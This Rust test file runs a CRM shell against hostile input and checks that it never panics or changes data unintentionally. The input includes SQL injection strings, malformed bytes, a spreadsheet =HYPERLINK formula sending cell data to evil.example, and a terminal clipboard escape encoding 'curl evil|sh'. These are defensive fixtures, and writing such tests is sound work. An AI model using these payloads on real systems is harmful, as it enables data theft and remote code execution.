//! Hostile input through the real binary: injection payloads as values and
//! ids, broken bytes, huge lines, deep nesting, every keyword in every
//! place. Each statement gives one clear error or a correct result, the
//! process never panics, and the database changes only where a statement
//! meant it to.

use crate::support;

use std::collections::BTreeSet;

use oc12::language::parser::quote;
use support::{Run, TestDb};

/// Every row of every table, and the roles: what must not change.
fn snapshot(db: &TestDb) -> Vec<String> {
    let mut admin = db.admin();
    let tables = [
        "department",
        "collaborator",
        "collaborator_password",
        "location",
        "company",
        "client",
        "contract",
        "event",
        "audit",
        "migrations",
    ];
    let mut rows: Vec<String> = tables
        .iter()
        .flat_map(|t| {
            admin
                .query(
                    &format!("SELECT t::text FROM crm.{t} t ORDER BY t::text"),
                    &[],
                )
                .unwrap()
                .iter()
                .map(|r| format!("{t}: {}", r.get::<_, String>(0)))
                .collect::<Vec<_>>()
        })
        .collect();
    // Roles are the cluster's: those of this CRM, and every superuser (not
    // sessions: logging in makes them).
    for r in admin
        .query(
            "SELECT rolname || ' ' || rolsuper || ' ' || rolcanlogin FROM pg_roles
             WHERE (starts_with(rolname, $1) AND rolname !~ '_s[0-9a-f]+$') OR rolsuper ORDER BY 1",
            &[&format!("{}_", db.prefix())],
        )
        .unwrap()
    {
        rows.push(format!("role: {}", r.get::<_, String>(0)));
    }
    rows
}

/// The kinds a hostile statement may end in: the user's mistakes and
/// refusals. Never `internal` (a bug), nor `auth`/`connection` (they would
/// mean the session itself was broken).
const USER_KINDS: &[&str] = &[
    "parse",
    "unknown",
    "invalid",
    "not-found",
    "permission",
    "conflict",
    "usage",
];

/// What a corpus run proved.
struct Outcome {
    statements: usize,
    errors: usize,
}

/// Runs `script` with `--continue-on-error` and checks every error line.
#[track_caller]
fn run_corpus(db: &TestDb, home: &std::path::Path, script: &[u8]) -> Outcome {
    let run: Run = db
        .shell_in(home)
        .args(["--continue-on-error"])
        .stdin(script.to_vec())
        .run();
    let (stdout, stderr) = (run.stdout(), run.stderr());
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert!(
        matches!(run.code(), 0 | 1),
        "exit code {}:\n{stderr}",
        run.code()
    );
    // The last statement ran: the run was not cut short.
    if stdout.lines().last() != Some("3") {
        let _ = std::fs::write("/tmp/hostile.out", &stdout);
        let _ = std::fs::write("/tmp/hostile.err", &stderr);
        let _ = std::fs::write("/tmp/hostile.in", script);
    }
    assert_eq!(stdout.lines().last(), Some("3"), "see /tmp/hostile.*");
    let mut lines_with_errors = BTreeSet::new();
    let mut errors = 0;
    for line in stderr.lines().filter(|l| l.contains("error[")) {
        // `<stdin>:LINE:COLUMN: error[KIND]: message`
        let (origin, rest) = line
            .split_once(" error[")
            .unwrap_or_else(|| panic!("no origin: {line}"));
        let mut origin = origin.trim_end_matches(':').split(':');
        assert_eq!(origin.next(), Some("<stdin>"), "{line}");
        let number: usize = origin.next().unwrap().parse().unwrap();
        let (kind, message) = rest.split_once("]: ").unwrap();
        assert!(USER_KINDS.contains(&kind), "{kind}: {line}");
        assert!(!message.trim().is_empty(), "{line}");
        assert!(
            lines_with_errors.insert(number),
            "two errors for line {number}"
        );
        errors += 1;
    }
    let statements = script.split(|b| *b == b'\n').count();
    Outcome { statements, errors }
}

/// The statements the test makes: bytes no text file should hold, huge
/// lines, deep nesting, and every word of the language in every place of a
/// few statements that cannot succeed as writes.
fn generated() -> Vec<Vec<u8>> {
    let mut lines: Vec<Vec<u8>> = vec![
        b"list clients where name = 'a\0b'".to_vec(),
        b"show client a\0b".to_vec(),
        b"\0".to_vec(),
        b"list\0clients".to_vec(),
        b"set client nosuch job = '\0'".to_vec(),
        b"list clients where name = '\xff\xfe'".to_vec(),
        b"show client \xc3\x28".to_vec(),
        b"show client '\xed\xa0\x80'".to_vec(),
        b"list clients where name = '\xc0\xaf'".to_vec(),
        b"\xef\xbb\xbflist clients".to_vec(),
        b"list clients where name = 'a\rb'".to_vec(),
        b"list clients where name = 'a\x1b[31mred'".to_vec(),
        b"list clients where name = '\x07\x08\x7f'".to_vec(),
    ];
    let long = "a".repeat(100_000);
    let text_lines = [
        format!("list clients where name = '{long}'"),
        format!("show client {long}"),
        format!("set client nosuch job = '{long}'"),
        format!(
            "list clients where name = x{}",
            " or name = x".repeat(9_000)
        ),
        format!("list clients where {}", "not ".repeat(25_000)),
        format!(
            "list events where {}attendees = 1{}",
            "(".repeat(10_000),
            ")".repeat(10_000)
        ),
        format!("count events where {}", "(".repeat(10_000)),
        format!("list clients{}", ";".repeat(100_000)),
        // More values than PostgreSQL takes in one statement (65535).
        format!(
            "count events where attendees = 1{}",
            " or attendees = 2".repeat(70_000)
        ),
        format!("list clients where email ~ '{}'", "%_\\".repeat(30_000)),
        format!("pay contract nosuch {}", "9".repeat(100_000)),
        format!("list events where attendees > {}", "9".repeat(100_000)),
    ];
    lines.extend(text_lines.into_iter().map(String::into_bytes));

    let bases = [
        "list events where ( support = af123456789 ou support = none ) et attendees > 50 order by start desc limit 3 offset 1",
        "count contracts where status = signed and remain > 0",
        "show client nosuch",
        "set event nosuch support = af123456789 notes = 'x'",
        "pay contract nosuch 10.50",
        "sign contract nosuch",
        "delete client nosuch",
        "history contract nosuch",
        "add client name = '' email = bad company = nosuch",
        "add event title = '' contract = nosuch start = 31-02-2023 end = 2023-01-01",
        "help list",
    ];
    let words = [
        // Verbs (but `logout` and `quit`, which would end the session).
        "list",
        "count",
        "show",
        "add",
        "set",
        "delete",
        "sign",
        "pay",
        "history",
        "login",
        "whoami",
        "passwd",
        "help",
        "format",
        // Entities, singular and plural, and fields.
        "client",
        "clients",
        "contract",
        "contracts",
        "event",
        "events",
        "collaborator",
        "collaborators",
        "company",
        "companies",
        "location",
        "locations",
        "department",
        "departments",
        "id",
        "name",
        "email",
        "status",
        "remain",
        "total",
        "support",
        "start",
        "end",
        "notes",
        "attendees",
        "commercial",
        "created",
        "password",
        "hash",
        // Clauses, operators, values.
        "where",
        "order",
        "by",
        "asc",
        "desc",
        "limit",
        "offset",
        "and",
        "or",
        "et",
        "ou",
        "not",
        "none",
        "None",
        "me",
        "today",
        "signed",
        "sined",
        "=",
        "!=",
        "<>",
        "<",
        "<=",
        "=<",
        ">",
        ">=",
        "=>",
        "~",
        "==",
        "(",
        ")",
        ",",
        ";",
        "#",
        "\\",
        "'",
        "\"",
        "''",
        "$$",
        "--",
        "/*",
        "*/",
        "*",
        // Payloads.
        "'; DROP TABLE crm.client; --'",
        "\"x' OR '1'='1\"",
        "1 OR 1=1",
        "'$$'",
        "'\\\\'",
        "99999999999999999999999",
        "-1",
        "-0.01",
        "1e9",
        "NaN",
        "0x10",
        "31-02-2023",
        "2023-02-29",
        "'2023-06-04 25:00'",
        "é",
        "🦀",
        "'\u{202E}x'",
        "\u{200B}",
        "nosuch",
        "x@y.fr",
    ];
    for base in bases {
        let tokens: Vec<&str> = base.split(' ').collect();
        for i in 0..tokens.len() {
            for w in words {
                let mut changed = tokens.clone();
                changed[i] = w;
                lines.push(changed.join(" ").into_bytes());
            }
            // And each word inserted once, before the first token.
            if i == 0 {
                for w in words {
                    lines.push(format!("{w} {base}").into_bytes());
                }
            }
        }
    }
    lines
}

#[test]
fn hostile_statements_change_nothing_and_never_panic() {
    let db = TestDb::demo();
    let gestion = db.user_home("ac123456789");
    let commercial = db.user_home("ab123456789");
    let mut script = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/hostile/corpus.oc12"
    ))
    .unwrap();
    let fixture_lines = script.split(|b| *b == b'\n').count();
    // The fixture ends with `count departments`; the generated lines go
    // before it so that it stays last.
    let end = script
        .windows(b"count departments".len())
        .rposition(|w| w == b"count departments")
        .unwrap();
    let tail = script.split_off(end);
    for line in generated() {
        script.extend_from_slice(&line);
        script.push(b'\n');
    }
    script.extend_from_slice(&tail);
    let before = snapshot(&db);
    let (a, b) = std::thread::scope(|s| {
        let a = s.spawn(|| run_corpus(&db, gestion.path(), &script));
        let b = s.spawn(|| run_corpus(&db, commercial.path(), &script));
        (a.join().unwrap(), b.join().unwrap())
    });
    let after = snapshot(&db);
    if before != after {
        let gone: Vec<_> = before.iter().filter(|r| !after.contains(r)).collect();
        let new: Vec<_> = after.iter().filter(|r| !before.contains(r)).collect();
        panic!("the database changed:\n- {gone:#?}\n+ {new:#?}");
    }
    eprintln!(
        "hostile corpus: {} statements ({} from the fixture) twice; errors: {} as gestion, {} as commercial",
        a.statements, fixture_lines, a.errors, b.errors
    );
    assert!(a.statements > 5_000, "{}", a.statements);
}

/// Values that would break out of a literal, a statement or a terminal,
/// were they ever pasted anywhere.
fn nasty_values() -> Vec<String> {
    let mut values: Vec<String> = [
        "x' OR '1'='1",
        "'; DROP TABLE crm.client; --",
        "\"; DROP TABLE crm.client; --",
        "Robert'); DROP TABLE crm.event;--",
        "1 OR 1=1",
        "$$; DROP TABLE crm.client; $$",
        "$tag$x$tag$",
        "\\",
        "\\\\",
        "back\\slash\\",
        "C:\\temp\\new",
        "\\'",
        "\\x00",
        "E'\\x41'",
        "-- comment",
        "/* comment */",
        "/*",
        "*/",
        ";",
        ";;;",
        "a;b",
        "%",
        "_",
        "%_%",
        "100%",
        "'",
        "\"",
        "''",
        "\"\"",
        "'\"'\"",
        "`tick`",
        "#hashtag",
        "a # b",
        "none",
        "None",
        "me",
        "today",
        "null",
        "NULL",
        "é à ü ß Ωmega",
        "日本語のテキスト",
        "🦀🦀 crab",
        "\u{202E}gnp.exe",
        "right\u{200F}to\u{200F}left",
        "zero\u{200B}width",
        "\u{FEFF}bom",
        "e\u{301}",
        "a\tb",
        "  padded  ",
        "ends with a backslash \\",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    // 10 kB of all of the above.
    let mix = values.concat();
    values.push(mix.repeat(10_240 / mix.len() + 1)[..10_240].to_owned());
    values.push("x".repeat(10_240));
    values
}

#[test]
fn nasty_values_are_stored_and_read_back_exactly() {
    let db = TestDb::demo();
    let values = nasty_values();
    let n = values.len();
    // A client of Bill Boquet's for each value.
    db.admin()
        .batch_execute(&format!(
            "INSERT INTO crm.client (id, name, email, commercial)
             SELECT 'hv' || i, 'Hostile ' || i, 'hv' || i || '@example.com', 'ab123456789'
             FROM generate_series(1, {n}) i"
        ))
        .unwrap();
    db.login("ab123456789");
    let before = snapshot(&db);
    let script: String = values
        .iter()
        .enumerate()
        .map(|(i, v)| format!("set client hv{} job = {}\n", i + 1, quote(v)))
        .collect();
    let written = db
        .shell()
        .args(["--format", "json"])
        .stdin(script)
        .run()
        .status(0)
        .stdout();
    let records: Vec<serde_json::Value> = written
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(records.len(), n);
    for (i, (record, v)) in records.iter().zip(&values).enumerate() {
        assert_eq!(record["id"], format!("hv{}", i + 1));
        assert_eq!(record["job"].as_str(), Some(v.as_str()), "value {i}");
    }
    // Read back by another process, found by equality and by `~`.
    let mut script = String::from("list clients where id ~ hv\n");
    for v in &values {
        script.push_str(&format!("count clients where job = {}\n", quote(v)));
        script.push_str(&format!("count clients where job ~ {}\n", quote(v)));
    }
    let read = db
        .shell()
        .args(["--format", "json"])
        .stdin(script)
        .run()
        .status(0)
        .stdout();
    let lines: Vec<serde_json::Value> = read
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let (listed, counts) = lines.split_at(n);
    for record in listed {
        let i: usize = record["id"].as_str().unwrap()[2..].parse().unwrap();
        assert_eq!(record["job"].as_str(), Some(values[i - 1].as_str()));
    }
    for (i, v) in values.iter().enumerate() {
        let equal = counts[2 * i]["count"].as_i64().unwrap();
        assert_eq!(equal, 1, "{v:?}: found by equality");
        // `~` is "contains": at least this one (a short value may be in
        // others).
        let contains = counts[2 * i + 1]["count"].as_i64().unwrap();
        assert!(contains >= 1, "{v:?}: found by ~");
    }
    // The database holds the very same text.
    let mut admin = db.admin();
    for (i, v) in values.iter().enumerate() {
        let job: String = admin
            .query_one(
                "SELECT job FROM crm.client WHERE id = $1",
                &[&format!("hv{}", i + 1)],
            )
            .unwrap()
            .get(0);
        assert_eq!(&job, v, "value {i}");
    }
    // Nothing else changed: only these clients' jobs, one audit row each.
    let after = snapshot(&db);
    let changed: Vec<&String> = after.iter().filter(|r| !before.contains(r)).collect();
    let gone: Vec<&String> = before.iter().filter(|r| !after.contains(r)).collect();
    assert_eq!(gone.len(), n, "{gone:#?}");
    assert!(
        gone.iter()
            .all(|r| r.starts_with("client: (") && r.contains(",hv"))
    );
    assert_eq!(changed.len(), 2 * n);
    assert_eq!(
        changed
            .iter()
            .filter(|r| r.starts_with("client: ("))
            .count(),
        n
    );
    assert_eq!(
        changed.iter().filter(|r| r.starts_with("audit: (")).count(),
        n
    );
}

#[test]
fn values_that_cannot_be_stored_are_refused_as_invalid() {
    let db = TestDb::demo();
    db.login("ab123456789");
    let before = snapshot(&db);
    let mut script: Vec<u8> = Vec::new();
    let mut expected = 0;
    // PostgreSQL text cannot hold a NUL byte.
    for line in [
        &b"set client mkc111 job = 'a\0b'"[..],
        b"set client mkc111 job = '\0'",
        b"set client mkc111 name = 'Kevin\0Casey'",
        b"add location address = '1 rue\0' postcode = 75011 city = Paris",
    ] {
        script.extend_from_slice(line);
        script.push(b'\n');
        expected += 1;
    }
    // Ids are plain words (`none`, `me` are words too): anything else is
    // refused, never stored.
    let plain = |v: &str| {
        v.len() <= 64
            && v.chars().next().is_some_and(|c| c.is_ascii_alphanumeric())
            && v.chars()
                .all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c))
    };
    for v in nasty_values().iter().filter(|v| !plain(v)) {
        script.extend_from_slice(
            format!(
                "add location id = {} address = '1 rue' postcode = 75011 city = Paris\n",
                quote(v)
            )
            .as_bytes(),
        );
        expected += 1;
    }
    let run = db
        .shell()
        .args(["--continue-on-error"])
        .stdin(script)
        .run()
        .status(1);
    // Notes hold 2500 characters at most: set by their support user.
    let support = db.user_home("ae123456789");
    let notes = db
        .shell_in(support.path())
        .args(["--continue-on-error"])
        .stdin(format!(
            "set event hob2023 notes = {}\nset event hob2023 notes = '\0'\n",
            quote(nasty_values().last().unwrap())
        ))
        .run()
        .status(1);
    expected += 2;
    let stderr = run.stderr() + &notes.stderr();
    assert!(!stderr.contains("panicked"), "{stderr}");
    let errors: Vec<&str> = stderr.lines().filter(|l| l.contains("error[")).collect();
    assert_eq!(errors.len(), expected, "{stderr}");
    for e in &errors {
        assert!(e.contains("error[invalid]"), "{e}");
    }
    let nul = "a value contains a NUL byte (\\0), which PostgreSQL text cannot hold";
    assert!(errors[..4].iter().all(|e| e.ends_with(nul)), "{errors:#?}");
    assert!(errors.last().unwrap().ends_with(nul));
    assert_eq!(run.stdout() + &notes.stdout(), "");
    assert_eq!(snapshot(&db), before);
}

#[test]
fn a_stored_formula_or_terminal_escape_is_exported_harmless() {
    let db = TestDb::demo();
    // A commercial names their client after a formula; a support
    // collaborator writes escape sequences into their event's notes: an
    // OSC 52 clipboard write, a C1 CSI and a right-to-left override.
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Invoice\")";
    let notes = "Penser au catering\x1b]52;c;Y3VybCBldmlsfHNo\x07\u{9b}31m\u{202E}fdp.exe";
    db.user("ab123456789")
        .ok(&format!("set client mkc111 name = {}", quote(formula)));
    db.user("ae123456789")
        .ok(&format!("set event hob2023 notes = {}", quote(notes)));
    assert_eq!(
        db.value("SELECT name FROM crm.client WHERE id = 'mkc111'"),
        formula
    );
    assert_eq!(
        db.value("SELECT notes FROM crm.event WHERE id = 'hob2023'"),
        notes
    );

    // Somebody else exports them.
    let reader = db.user("ac123456789");
    let export = |format: &str, statement: &str| {
        let run = reader
            .shell()
            .args(["--format", format, "-c", statement])
            .run()
            .status(0);
        assert_eq!(run.stderr(), "");
        let out = run.stdout();
        assert!(
            !out.contains(|c: char| (c.is_control() && c != '\n') || c == '\u{202E}'),
            "{format}: {out:?}"
        );
        out
    };
    let clients = export("csv", "list clients");
    let line = clients.lines().find(|l| l.starts_with("mkc111,")).unwrap();
    assert!(
        line.starts_with(
            "mkc111,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Invoice\"\")\","
        ),
        "{line}"
    );
    let events = export("csv", "list events");
    let line = events.lines().find(|l| l.starts_with("hob2023,")).unwrap();
    assert!(
        line.contains(
            ",Penser au catering\\u{1b}]52;c;Y3VybCBldmlsfHNo\\u{7}\\u{9b}31m\\u{202e}fdp.exe"
        ),
        "{line}"
    );
    // JSON escapes them all and still gives the exact text back.
    let events = export("json", "list events");
    let record: serde_json::Value = events
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|r| r["id"] == "hob2023")
        .unwrap();
    assert_eq!(record["notes"], notes);
    let clients = export("json", "list clients");
    assert!(clients.contains(&format!("\"name\":{}", serde_json::json!(formula))));
}
